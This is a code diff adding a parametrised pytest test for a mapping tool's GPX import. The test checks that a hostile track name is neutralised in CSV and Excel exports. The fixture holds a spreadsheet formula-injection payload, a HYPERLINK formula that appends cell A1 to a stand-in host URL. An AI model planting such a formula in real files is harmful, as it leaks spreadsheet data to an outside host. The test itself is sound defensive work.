@@ -194,3 +194,37 @@ def test_gridmap_import_reads_a_gpx(
     assert "4 good rows, 2 rejected" in capsys.readouterr().out
     tracks = GeoPackageStore(workspace).read("tracks")
     assert {"巡逻一组", "night shift"} <= set(tracks["unit"])
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_hostile_track_name_is_neutralised_in_spreadsheet_exports(
+    tmp_path: Path, fmt: str
+) -> None:
+    """A track's name comes from whoever made the GPX file: it reaches ``tracks.unit`` and
+    from there the Data page's CSV export and the Excel workbook, never as a formula."""
+    import openpyxl
+
+    from gridmap.io import export_layer, write_xlsx
+
+    hostile = '=HYPERLINK("http://x.invalid/?"&A1,"查看")'
+    path = tmp_path / "hostile.gpx"
+    path.write_text(
+        _gpx(
+            "<trk><name>" + hostile.replace("&", "&amp;").replace('"', "&quot;") + "</name>"
+            "<trkseg>" + _pt(60.17, 24.94, "2025-11-03T08:00:00Z") + "</trkseg></trk>"
+        ),
+        encoding="utf-8",
+    )
+    tracks = import_file(path, "tracks").data
+    assert tracks["unit"].tolist() == [hostile]
+    if fmt == "csv":
+        out = export_layer(tracks, tmp_path / "tracks.csv")
+        cells = pd.read_csv(out, dtype=str, encoding="utf-8-sig")["unit"].tolist()
+        assert cells == ["'" + hostile]
+    else:
+        table = pd.DataFrame(tracks.drop(columns="geometry"))
+        out = write_xlsx({"tracks": table}, tmp_path / "t.xlsx")
+        sheet = openpyxl.load_workbook(out).worksheets[0]
+        header = [c.value for c in sheet[1]]
+        cell = sheet.cell(row=2, column=header.index("unit") + 1)
+        assert (cell.data_type, cell.value) == ("s", hostile)  # text, never a formula
